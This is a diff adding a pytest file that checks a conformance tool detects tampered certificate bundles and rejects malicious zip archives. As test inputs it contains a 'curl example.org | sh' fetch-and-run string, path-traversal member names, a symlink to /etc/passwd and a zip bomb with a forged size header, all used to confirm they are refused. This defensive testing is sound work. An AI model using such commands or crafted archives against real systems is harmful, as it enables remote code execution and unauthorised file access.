@@ -1,0 +1,365 @@
+"""Verifying a bundle of somebody else's: whatever was changed in it is found, and nothing in it is run."""
+
+from __future__ import annotations
+
+import hashlib
+import json
+import stat
+import zipfile
+from collections.abc import Callable
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from conformance import cli
+from conformance.certificate import bundle as bundles
+from conformance.certificate.document import canonical
+from conformance.errors import UsageError
+from conformance.plan.levels import manifest
+from conformance.results import document as result_files
+from tests.support import certifiable
+
+Json = dict[str, Any]
+
+
+Change = Callable[[Json, Json], None]
+
+
+Capture = pytest.CaptureFixture[str]
+
+
+@pytest.fixture(scope="module")
+def issued(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A sound bundle of level core."""
+    folder = tmp_path_factory.mktemp("issued")
+    out = certifiable.folder(folder / "out", certifiable.leg("core"))
+    assert cli.main(["certify", str(out), "-o", str(folder / "core.zip")]) == 0
+    return folder / "core.zip"
+
+
+def rows(results: Json) -> list[Json]:
+    found: list[Json] = results["legs"][0]["results"]
+    return found
+
+
+def resummed(certificate: Json, results: Json) -> None:
+    """What a careful forger does after a change: all sums and digests follow again."""
+    leg = certifiable.summed(results["legs"][0])
+    results.update(result_files.document([leg]))
+    certificate["evidence"]["results"] = hashlib.sha256(canonical(results)).hexdigest()
+    certificate["evidence"]["comparisons"] = sum(row.get("comparisons", 0) for row in leg["results"])
+
+
+def verdict(certificate: Json, results: Json) -> None:
+    row = next(row for row in rows(results) if row["id"] == "layout/add@float32")
+    row |= {"verdict": "fail", "failures": [{"kind": "value", "message": "off"}], "failure_count": 1}
+
+
+def verdict_with_failures_left(certificate: Json, results: Json) -> None:
+    rows(results)[0] |= {"failures": [{"kind": "value", "message": "off"}]}
+
+
+def dropped(certificate: Json, results: Json) -> None:
+    rows(results).pop()
+
+
+def doubled(certificate: Json, results: Json) -> None:
+    rows(results).append(dict(rows(results)[0]))
+
+
+def renamed_row(certificate: Json, results: Json) -> None:
+    rows(results)[0]["id"] += "_"
+
+
+def emptied(certificate: Json, results: Json) -> None:
+    results["legs"][0]["results"] = []
+
+
+def level(certificate: Json, results: Json) -> None:
+    certificate["claim"]["level"] = "full"
+
+
+def level_everywhere(certificate: Json, results: Json) -> None:
+    certificate["claim"]["level"] = "training"
+    results["legs"][0]["level"] = "training"
+
+
+def other_mode(certificate: Json, results: Json) -> None:
+    results["legs"][0]["mode"] = certificate["claim"]["mode"] = "graph"
+
+
+def selected(certificate: Json, results: Json) -> None:
+    results["legs"][0]["selection"] = "add"
+
+
+def suite(certificate: Json, results: Json) -> None:
+    results["legs"][0]["digests"]["suite"] = certificate["evidence"]["suite"] = "a" * 64
+
+
+def fallback(certificate: Json, results: Json) -> None:
+    next(row for row in rows(results) if row["id"] == "placement/mm@float32")["placement"] = "fallback"
+
+
+def undeclared_floor(certificate: Json, results: Json) -> None:
+    results["legs"][0]["target"]["declared"]["dtypes"] = []
+    results["legs"][0]["results"] = [row for row in rows(results) if not row["id"].endswith("@float32")]
+
+
+def path_in_a_message(certificate: Json, results: Json) -> None:
+    rows(results)[0]["notes"] = ["read from /home/jane/x.py"]
+
+
+#: Changes that are found whether or not the sums were made to follow.
+FOUND: list[tuple[Change, str]] = [
+    (verdict, "fail (value)"),
+    (verdict_with_failures_left, "shows failures"),
+    (dropped, "no result"),
+    (doubled, "has two rows"),
+    (renamed_row, "no result"),
+    (emptied, "no result"),
+    (level, "the run was of level core"),
+    (level_everywhere, "no result"),
+    (other_mode, "no result"),
+    (selected, "narrowed with -k"),
+    (suite, "another copy of the suite"),
+    (fallback, "placed fallback"),
+    (undeclared_floor, "no result"),
+    (path_in_a_message, "leaves out"),
+]
+
+
+def tampered(issued: Path, tmp_path: Path, capsys: Capture, *changes: Change) -> str:
+    """What verifying says after changes; it must not be yes."""
+
+    def every(certificate: Json, results: Json) -> None:
+        for change in changes:
+            change(certificate, results)
+
+    other = certifiable.rewritten(issued, tmp_path / "other.zip", every)
+    capsys.readouterr()
+    code = cli.main(["certify", "--verify", str(other)])
+    found = capsys.readouterr()
+    assert code == 3, found
+    assert found.out.startswith("NOT verified") and "verified:" not in found.out.splitlines()[1:]
+    return found.out
+
+
+@pytest.mark.parametrize(("change", "words"), FOUND, ids=[change.__name__ for change, _ in FOUND])
+@pytest.mark.parametrize("careful", [False, True], ids=["", "resummed"])
+def test_a_change_is_found(
+    issued: Path, tmp_path: Path, capsys: Capture, change: Change, words: str, careful: bool
+) -> None:
+    changes = (change, resummed) if careful else (change,)
+    assert words in tampered(issued, tmp_path, capsys, *changes)
+
+
+def _set(where: str, value: Any) -> Change:
+    def change(certificate: Json, results: Json) -> None:
+        *path, last = where.split(".")
+        place = certificate
+        for key in path:
+            place = place[key]
+        assert place[last] != value
+        place[last] = value
+
+    return change
+
+
+EDITS = [
+    ("evidence.counts", {"due": 1, "claimed": 1, "passed": 1, "waived": 0, "not_claimed": 0, "missing": 0}),
+    ("evidence.counts.passed", 10**6),
+    ("evidence.manifest", "b" * 64),
+    ("evidence.results", "b" * 64),
+    ("evidence.suite", "b" * 64),
+    ("evidence.comparisons", 1),
+    ("evidence.placements", {"native": 999}),
+    ("evidence.waived", ["value/add@float32"]),
+    ("evidence.not_claimed", {"dtype float16": 3}),
+    ("claim.mode", "compile"),
+    ("claim.torch", "2.6"),
+    ("statements.target", {"name": "theirs", "device": "mydev", "precision": "ieee", "simulated": False}),
+    ("statements.torch", {"version": "2.6.0"}),
+    ("statements.environment", {"SECRET": "1"}),
+    ("repeat", ["curl example.org | sh"]),
+    ("suite", "9.9"),
+]
+
+
+@pytest.mark.parametrize(("where", "value"), EDITS, ids=[where for where, _ in EDITS])
+def test_an_edited_certificate_is_found(
+    issued: Path, tmp_path: Path, capsys: Capture, where: str, value: Any
+) -> None:
+    assert f"certificate.{where}" in tampered(issued, tmp_path, capsys, _set(where, value))
+
+
+def test_another_level_alone_does_not_fit_the_rest(issued: Path, tmp_path: Path, capsys: Capture) -> None:
+    said = tampered(issued, tmp_path, capsys, _set("claim.level", "bringup"))
+    assert "certificate.evidence.manifest" in said and "certificate.evidence.counts.due" in said
+
+
+def test_a_simulated_device_cannot_be_made_real(tmp_path: Path, capsys: Capture) -> None:
+    leg = certifiable.leg("core")
+    leg["target"]["simulated"] = True
+    out = certifiable.folder(tmp_path / "out", leg)
+    assert cli.main(["certify", str(out), "-o", str(tmp_path / "core.zip")]) == 0
+    said = tampered(tmp_path / "core.zip", tmp_path, capsys, _set("claim.notice", None))
+    assert "certificate.claim.notice" in said
+
+
+def test_another_manifest_does_not_verify(
+    issued: Path, monkeypatch: pytest.MonkeyPatch, capsys: Capture
+) -> None:
+    known = manifest.load()
+    fewer = type(known)(known.minors, known.statements, known.waivers[1:])
+    gone = known.waivers[0].id
+    assert gone in known.demand("2.13", "eager", "full").waived
+    out = certifiable.leg("full")
+    assert fewer.demand("2.13", "eager", "full").digest() != known.demand("2.13", "eager", "full").digest()
+    lacking = type(known)(
+        known.minors, tuple(one for one in known.statements if one.name != "value"), known.waivers
+    )
+    monkeypatch.setattr(manifest, "load", lambda: lacking)
+    assert cli.main(["certify", "--verify", str(issued)]) == 3
+    assert "certificate.evidence.manifest" in capsys.readouterr().out
+    assert out["results"]
+
+
+def test_a_sound_bundle_stays_verified_when_it_is_packed_again(
+    issued: Path, tmp_path: Path, capsys: Capture
+) -> None:
+    other = certifiable.rewritten(issued, tmp_path / "other.zip", lambda certificate, results: None)
+    assert cli.main(["certify", "--verify", str(other)]) == 0
+
+
+def packed(path: Path, members: dict[str | zipfile.ZipInfo, bytes]) -> Path:
+    """A zip with these members, in this order."""
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as file:
+        for name, content in members.items():
+            file.writestr(name, content)
+    return path
+
+
+def members(issued: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(issued) as file:
+        return {name: file.read(name) for name in file.namelist()}
+
+
+def refused(path: Path) -> str:
+    with pytest.raises(UsageError) as caught:
+        bundles.read(path)
+    return str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "../certificate.json",
+        "/etc/passwd",
+        "certificate.json/",
+        "a/certificate.json",
+        "..\\results.json",
+        "conftest.py",
+        "certificate.json.py",
+        "Certificate.json",
+    ],
+)
+def test_names_other_than_the_two_are_refused(issued: Path, tmp_path: Path, name: str) -> None:
+    path = packed(tmp_path / "b.zip", {**members(issued), name: b"{}"})
+    assert "may hold certificate.json and results.json alone" in refused(path)
+    assert sorted(tmp_path.iterdir()) == [path]
+
+
+def test_members_that_are_no_plain_files_are_refused(issued: Path, tmp_path: Path) -> None:
+    info = zipfile.ZipInfo("results.json")
+    info.external_attr = (stat.S_IFLNK | 0o777) << 16
+    content = members(issued)
+    path = packed(tmp_path / "b.zip", {"certificate.json": content["certificate.json"], info: b"/etc/passwd"})
+    assert "no plain file" in refused(path)
+
+
+def test_a_member_that_is_there_twice_or_not_at_all_is_refused(issued: Path, tmp_path: Path) -> None:
+    content = members(issued)
+    assert "lacks results.json" in refused(
+        packed(tmp_path / "a.zip", {"certificate.json": content["certificate.json"]})
+    )
+    again = zipfile.ZipInfo("results.json")
+    with pytest.warns(UserWarning, match="Duplicate name"):
+        path = packed(tmp_path / "b.zip", {**content, again: content["results.json"]})
+    assert "twice" in refused(path)
+
+
+def test_sizes_are_capped_whatever_the_zip_says(
+    issued: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    bomb = packed(tmp_path / "b.zip", {**members(issued), "results.json": b" " * (1 << 20)})
+    monkeypatch.setitem(bundles.LIMITS, "results.json", 1 << 19)
+    assert "at most 524288 are read" in refused(bomb)
+    # The same with a header that understates it: what is there beyond is not read, and its sum is wrong.
+    content = bytearray(bomb.read_bytes())
+    for signature, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
+        start = content.rindex(signature)
+        assert content[start + offset : start + offset + 4] == (1 << 20).to_bytes(4, "little")
+        content[start + offset : start + offset + 4] = (1 << 10).to_bytes(4, "little")
+    bomb.write_bytes(content)
+    assert "is no sound zip" in refused(bomb) or "unpacks to more" in refused(bomb)
+    monkeypatch.setattr(bundles, "MAX_BYTES", 100)
+    assert "at most 100 are read" in refused(issued)
+
+
+@pytest.mark.parametrize(
+    ("content", "words"),
+    [
+        (b"import os", "is not JSON"),
+        (b"\xff\xfe", "is not JSON"),
+        (b"[" * 200_000, "is not JSON"),
+        (b'{"schema": NaN}', "NaN is no number"),
+        (b'{"schema": 1, "schema": 1}', "one key twice"),
+        (b"{}", "does not follow its schema"),
+        (b"[]", "does not follow its schema"),
+    ],
+)
+@pytest.mark.parametrize("name", ["certificate.json", "results.json"])
+def test_members_that_are_something_else_are_refused(
+    issued: Path, tmp_path: Path, name: str, content: bytes, words: str
+) -> None:
+    assert words in refused(packed(tmp_path / "b.zip", {**members(issued), name: content}))
+
+
+@pytest.mark.parametrize("content", [b"", b"PK", b"not a zip at all", b"PK\x05\x06" + b"\0" * 18])
+def test_what_is_no_zip_is_refused(tmp_path: Path, content: bytes) -> None:
+    (tmp_path / "b.zip").write_bytes(content)
+    refused(tmp_path / "b.zip")
+
+
+def test_a_cut_off_bundle_is_refused(issued: Path, tmp_path: Path) -> None:
+    content = issued.read_bytes()
+    for part in (10, len(content) // 2, len(content) - 5):
+        (tmp_path / "b.zip").write_bytes(content[:part])
+        refused(tmp_path / "b.zip")
+    flipped = bytearray(content)
+    flipped[len(content) // 2] ^= 0xFF
+    (tmp_path / "b.zip").write_bytes(flipped)
+    refused(tmp_path / "b.zip")
+
+
+def test_a_certificate_is_of_one_leg(issued: Path, tmp_path: Path, capsys: Capture) -> None:
+    def change(certificate: Json, results: Json) -> None:
+        results["legs"] *= 2
+
+    other = certifiable.rewritten(issued, tmp_path / "other.zip", change)
+    assert cli.main(["certify", "--verify", str(other)]) == 2
+    assert "hold 2 legs" in capsys.readouterr().err
+
+
+def test_a_bundle_is_json_and_nothing_else(issued: Path) -> None:
+    content = members(issued)
+    assert list(content) == ["certificate.json", "results.json"]
+    certificate = json.loads(content["certificate.json"])
+    assert certificate["claim"] | {"notice": None} == {
+        "level": "core",
+        "mode": "eager",
+        "torch": "2.13",
+        "attestation": "self-reported",
+        "notice": None,
+    }
